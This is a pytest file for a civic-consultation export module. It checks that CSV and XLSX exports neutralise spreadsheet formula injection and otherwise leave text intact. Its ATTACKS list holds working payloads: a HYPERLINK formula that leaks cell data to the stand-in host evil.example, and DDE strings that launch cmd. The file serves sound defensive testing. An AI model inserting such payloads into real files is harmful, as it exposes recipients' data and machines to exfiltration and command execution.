"""Exports neutralise spreadsheet formulas (OWASP CSV injection) and keep the text otherwise intact."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from civicai.export import neutralise, write_csv, write_xlsx
from civicai.ingest import read_submissions

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1",
           "＝1+1"]
SAFE = ["Plain comment about trees.", "-5", "+3.2", "42", "1e5", "Emoji 🌳 and accents é ü"]


def test_neutralise_rules() -> None:
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for value in SAFE:
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(None) == ""


def test_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    rows = [{"submission_id": f"s{i}", "text": text, "themes": ["a", "b"]} for i, text in enumerate(ATTACKS + SAFE)]
    path = tmp_path / "out" / "assignments.csv"
    assert write_csv(path, rows, ["submission_id", "text", "themes"]) == len(rows)
    raw = path.read_text(encoding="utf-8")
    assert all(line.startswith('"') for line in raw.split("\r\n") if line)  # every record's fields quoted
    with path.open(encoding="utf-8", newline="") as handle:
        back = list(csv.DictReader(handle))
    for row, original in zip(back, rows):
        cell = row["text"]
        if original["text"] not in SAFE:  # every attack comes back behind an apostrophe
            assert cell == "'" + original["text"]
        assert cell in (original["text"], "'" + original["text"])  # nothing else changed
        assert row["themes"] == "a;b"


def test_injected_hyperlink_from_input_is_neutral_in_export(tmp_path: Path) -> None:
    """End to end: a submission carrying =HYPERLINK(...) is read, then exported as inert text."""
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["id", "comment"], ["1", ATTACKS[0]], ["2", "More buses please."]])
    submissions = read_submissions(source).submissions
    assert submissions[0].text == ATTACKS[0]  # ingest keeps the citizen's text as written
    out = tmp_path / "export.csv"
    write_csv(out, ({"id": s.id, "text": s.text} for s in submissions), ["id", "text"])
    assert "\"'=HYPERLINK(" in out.read_text(encoding="utf-8")


def test_xlsx_stores_text_not_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    rows = [{"id": i, "text": text} for i, text in enumerate(ATTACKS + SAFE + ["x" * 40000, "bell\x07char"])]
    path = tmp_path / "export.xlsx"
    write_xlsx(path, rows, ["id", "text"], sheet_name="themes: all/[v1]")
    sheet = load_workbook(path).active  # not read-only: data_type is reliable
    assert sheet.title == "themes_ all__v1_"
    values = list(sheet.iter_rows(min_row=2))
    assert len(values) == len(rows)
    for cells, original in zip(values, rows):
        id_cell, text_cell = cells
        assert id_cell.data_type == "n" and id_cell.value == original["id"]
        assert text_cell.data_type == "s"  # never 'f' (formula)
    texts = [cells[1].value for cells in values]
    assert texts[0] == "'" + ATTACKS[0]
    assert texts[len(ATTACKS)] == SAFE[0]
    assert len(texts[-2]) <= 32767 and texts[-2].endswith("[truncated]")
    assert texts[-1] == "bellchar"


def test_unknown_keys_are_an_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        write_csv(tmp_path / "x.csv", [{"a": 1, "b": 2}], ["a"])
    with pytest.raises(ValueError):
        write_xlsx(tmp_path / "x.xlsx", [{"a": 1, "b": 2}], ["a"])
